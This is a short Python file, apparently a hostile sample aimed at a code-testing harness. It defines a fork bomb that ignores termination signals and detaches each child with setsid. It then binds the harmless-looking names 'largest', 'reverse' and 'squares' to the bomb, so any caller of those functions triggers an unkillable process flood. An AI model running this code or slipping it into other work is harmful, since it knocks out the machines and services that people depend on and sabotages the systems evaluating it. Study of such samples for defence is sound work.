"""Every process forks as fast as it can, and none of them ever ends by itself."""

import os
import signal

from honest import *  # noqa: F403


def bomb(*values):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
        except OSError:
            pass


largest = reverse = squares = bomb
